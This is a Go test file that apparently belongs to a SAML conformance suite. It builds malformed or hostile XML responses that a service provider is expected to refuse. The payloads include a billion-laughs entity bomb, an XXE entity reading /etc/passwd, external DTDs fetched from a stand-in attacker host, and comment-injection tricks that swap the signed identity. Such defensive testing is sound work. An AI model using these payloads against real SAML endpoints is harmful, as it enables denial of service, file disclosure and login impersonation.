package faults

import (
	"bytes"
	"fmt"
	"strings"

	"github.com/beevik/etree"

	"github.com/clave-go/clave/internal/samlidp"
	"github.com/clave-go/clave/saml"
)

// nameIDText is the NameID as it appears in the serialised response.
func nameIDText(b *Base) string { return ">" + b.Params.NameID.Value + "<" }

// billionLaughs is a small response whose text expands to 10^9 "lol"s.
func billionLaughs(*Base) (Delivery, error) {
	var s strings.Builder
	s.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">`)
	for i := 1; i < 10; i++ {
		fmt.Fprintf(&s, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	s.WriteString(`]><saml2p:Response xmlns:saml2p="` + saml.NSProtocol + `" ID="_r" Version="2.0">&lol9;</saml2p:Response>`)
	return Delivery{XML: []byte(s.String())}, nil
}

// withDoctype puts a document type declaration after the XML declaration.
func withDoctype(doctype string, replaceNameID string) func(*Base) (Delivery, error) {
	return raw(func(b *Base, x []byte) ([]byte, error) {
		x, err := replaceOnce(x, "?>", "?>"+doctype)
		if err != nil || replaceNameID == "" {
			return x, err
		}
		return replaceOnce(x, nameIDText(b), ">"+replaceNameID+"<")
	})
}

// signedOverBytes builds the root-signed response, lets change rewrite its
// serialisation, parses that back, re-signs it with ResignEnveloped and lets
// restore put the rewritten bytes back into the final serialisation: the
// signature is valid over what a parser makes of the rewritten bytes.
func signedOverBytes(change, restore func(b *Base, x []byte) ([]byte, error)) func(*Base) (Delivery, error) {
	return func(b *Base) (Delivery, error) {
		x, err := b.bytesOf(nil, secResponse, nil, nil)
		if err != nil {
			return Delivery{}, err
		}
		if x, err = change(b, x); err != nil {
			return Delivery{}, err
		}
		d := etree.NewDocument()
		if err := d.ReadFromBytes(x); err != nil {
			return Delivery{}, fmt.Errorf("faults: %w", err)
		}
		if err := samlidp.ResignEnveloped(d.Root(), b.Keys.Trusted.Key, samlidp.ResignOptions{}); err != nil {
			return Delivery{}, fmt.Errorf("faults: %w", err)
		}
		if x, err = d.WriteToBytes(); err != nil {
			return Delivery{}, fmt.Errorf("faults: %w", err)
		}
		x, err = restore(b, x)
		return Delivery{XML: x}, err
	}
}

func init() {
	g := GroupXML
	register(
		Case{ID: "XML-01", Group: g, Title: "billion laughs", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   "a minimal Response whose DOCTYPE declares ten nested entities, each ten references to the previous one, and whose content is the last entity",
			Build: billionLaughs},
		Case{ID: "XML-02", Group: g, Title: "external entity (XXE)", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   `the valid response gets a DOCTYPE declaring <!ENTITY xxe SYSTEM "file:///etc/passwd"> and NameID's text is replaced by &xxe;`,
			Build: withDoctype(`<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "&xxe;")},
		Case{ID: "XML-03", Group: g, Title: "external DTD", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   `the valid response gets <!DOCTYPE Response SYSTEM "https://evil.example/saml.dtd"> after the XML declaration`,
			Build: withDoctype(`<!DOCTYPE Response SYSTEM "`+evilHost+`/saml.dtd">`, "")},
		Case{ID: "XML-04", Group: g, Title: "external parameter entity", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   "the valid response gets a DOCTYPE whose internal subset declares and references an external parameter entity %p",
			Build: withDoctype(`<!DOCTYPE r [<!ENTITY % p SYSTEM "`+evilHost+`/p.dtd"> %p;]>`, "")},
		Case{ID: "XML-05", Group: g, Title: "lower-case doctype", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   "the valid response gets a (not well-formed) <!doctype r> directive after the XML declaration",
			Build: withDoctype(`<!doctype r>`, "")},
		Case{ID: "XML-06", Group: g, Title: "undeclared entity reference", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "NameID's text in the valid response is replaced by &xxe;, an entity no DTD declares",
			Build: raw(func(b *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, nameIDText(b), ">&xxe;<")
			})},
		Case{ID: "XML-07", Group: g, Title: "comment in NameID, signed over", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "before the root is signed, NameID becomes the attacker's DNI split by a comment (\"9999<!--x-->9999R\"), which canonicalisation drops",
			Build: variant(nil, secResponse, onAssertion(func(e *editor, b *Base, a *etree.Element) {
				nid, id := e.find(a, pNameID), b.evilID()
				nid.SetText(id[:4])
				nid.CreateComment("x")
				nid.CreateText(id[4:])
			}), nil)},
		Case{ID: "XML-08", Group: g, Title: "comment in PersonIdentifier, signed over", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "before the assertion alone is signed, PersonIdentifier's value is split by an empty comment after its fourth character",
			Build: variant(nil, secAssertion, onAssertion(func(e *editor, _ *Base, a *etree.Element) {
				v := e.mustPersonID(a)
				t := v.Text()
				if len(t) < 5 {
					e.fail("PersonIdentifier %q too short", t)
					return
				}
				v.SetText(t[:4])
				v.CreateComment("")
				v.CreateText(t[4:])
			}), nil)},
		Case{ID: "XML-09", Group: g, Title: "comment in PersonIdentifier after signing", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "after the root is signed, a comment is appended inside PersonIdentifier's value (canonicalisation hides it from the digest)",
			Build: variant(nil, secResponse, nil, onAssertion(func(e *editor, _ *Base, a *etree.Element) {
				e.mustPersonID(a).CreateComment("x")
			}))},
		Case{ID: "XML-10", Group: g, Title: "NameID split by an element", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "before the root is signed, a child element <saml2:Extra>1</saml2:Extra> is appended inside NameID",
			Build: variant(nil, secResponse, onAssertion(func(e *editor, _ *Base, a *etree.Element) {
				e.find(a, pNameID).CreateElement("saml2:Extra").SetText("1")
			}), nil)},
		Case{ID: "XML-11", Group: g, Title: "processing instruction inside the response", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "before the root is signed, a processing instruction <?evil x?> is appended to the assertion's Subject",
			Build: variant(nil, secResponse, onAssertion(func(e *editor, _ *Base, a *etree.Element) {
				e.find(a, pSubject).CreateProcInst("evil", "x")
			}), nil)},
		Case{ID: "XML-12", Group: g, Title: "undeclared namespace prefix", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "in the valid response's bytes, NameID's start and end tags are renamed to the undeclared prefix saml9",
			Build: raw(func(_ *Base, x []byte) ([]byte, error) {
				x, err := replaceOnce(x, "<saml2:NameID", "<saml9:NameID")
				if err != nil {
					return nil, err
				}
				return replaceOnce(x, "</saml2:NameID>", "</saml9:NameID>")
			})},
		Case{ID: "XML-13", Group: g, Title: "duplicate attribute", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "in the valid response's bytes, a second Destination attribute (the attacker's URL) is written before the root's genuine one",
			Build: raw(func(_ *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, ` Destination="`, ` Destination="`+evilHost+`/acs" Destination="`)
			})},
		Case{ID: "XML-14", Group: g, Title: "namespaced attribute given twice", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "before the root is signed, PersonIdentifier's value gets a second xsi:type (xs:string) written with another prefix bound to the XSI namespace",
			Build: variant(nil, secResponse, onAssertion(func(e *editor, _ *Base, a *etree.Element) {
				v := e.mustPersonID(a)
				v.CreateAttr("xmlns:xsi2", saml.NSXSI)
				v.CreateAttr("xsi2:type", "xs:string")
			}), nil)},
		Case{ID: "XML-15", Group: g, Title: "second document element", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "an unsigned evil response (other IDs, the attacker's identity) is appended after the valid response's document element",
			Build: func(b *Base) (Delivery, error) {
				signed, err := b.bytesOf(nil, secResponse, nil, nil)
				if err != nil {
					return Delivery{}, err
				}
				evil, err := b.doc(func(_ *Base, p *samlidp.ResponseParams) { p.ID, p.AssertionID = "_evil", "_evil_a" }, nil, onAssertion(evilize))
				if err != nil {
					return Delivery{}, err
				}
				var buf bytes.Buffer
				evil.Root().WriteTo(&buf, &evil.WriteSettings)
				return Delivery{XML: append(signed, buf.Bytes()...)}, nil
			}},
		Case{ID: "XML-16", Group: g, Title: "text after the document element", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   "the attacker's DNI is appended as text after the valid response's document element",
			Build: raw(func(b *Base, x []byte) ([]byte, error) { return append(x, b.evilID()...), nil })},
		Case{ID: "XML-17", Group: g, Title: "truncated document", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   "the last 20 bytes of the valid response are cut off",
			Build: raw(func(_ *Base, x []byte) ([]byte, error) { return x[:len(x)-20], nil })},
		Case{ID: "XML-18", Group: g, Title: "empty document", Expect: Refuse, Reason: saml.ErrMalformed,
			How:   "the posted SAMLResponse decodes to zero bytes of XML (the form field itself is empty)",
			Build: func(*Base) (Delivery, error) { return Delivery{XML: []byte{}}, nil }},
		Case{ID: "XML-19", Group: g, Title: "invalid UTF-8", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "a 0xFF byte, never valid in UTF-8, is inserted before NameID's text in the valid response",
			Build: raw(func(b *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, nameIDText(b), ">\xff"+b.Params.NameID.Value+"<")
			})},
		Case{ID: "XML-20", Group: g, Title: "character reference to U+0000", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "the character reference &#0; (not an XML character) is appended to NameID's text in the valid response",
			Build: raw(func(b *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, nameIDText(b), ">"+b.Params.NameID.Value+"&#0;<")
			})},
		Case{ID: "XML-21", Group: g, Title: "surrogate character reference, signed over", Expect: Refuse, Reason: saml.ErrMalformed,
			How: "NameID's text gets &#xD800; appended (not an XML character; lax parsers read U+FFFD) and the root signature is recomputed over what such a parser reads",
			Build: signedOverBytes(func(b *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, nameIDText(b), ">"+b.Params.NameID.Value+"&#xD800;<")
			}, func(b *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, ">"+b.Params.NameID.Value+"\uFFFD<", ">"+b.Params.NameID.Value+"&#xD800;<")
			})},
		Case{ID: "XML-22", Group: g, Title: "undeclared encoding (UTF-7)", Expect: Refuse, Reason: saml.ErrMalformed,
			How: `the valid response's XML declaration says encoding="UTF-7", an encoding that can hide markup`,
			Build: raw(func(_ *Base, x []byte) ([]byte, error) {
				return replaceOnce(x, `encoding="UTF-8"`, `encoding="UTF-7"`)
			})},
		Case{ID: "XML-23", Group: g, Title: "Response in the SAML 1.0 namespace", Expect: Refuse, Reason: saml.ErrUnexpectedRoot,
			How:   "after the root is signed, its saml2p prefix is rebound to urn:oasis:names:tc:SAML:1.0:protocol",
			Build: variant(nil, secResponse, nil, setAttrAt(".", "xmlns:saml2p", constant("urn:oasis:names:tc:SAML:1.0:protocol")))},
		Case{ID: "XML-24", Group: g, Title: "assertion prefix rebound to a foreign namespace", Expect: Refuse, Reason: saml.ErrAssertionCount,
			How:   "before the root is signed, the Assertion element redeclares xmlns:saml2 as urn:example:not-saml, so it and its content are not SAML",
			Build: variant(nil, secResponse, setAssertionAttr(".", "xmlns:saml2", constant("urn:example:not-saml")), nil)},
	)
}
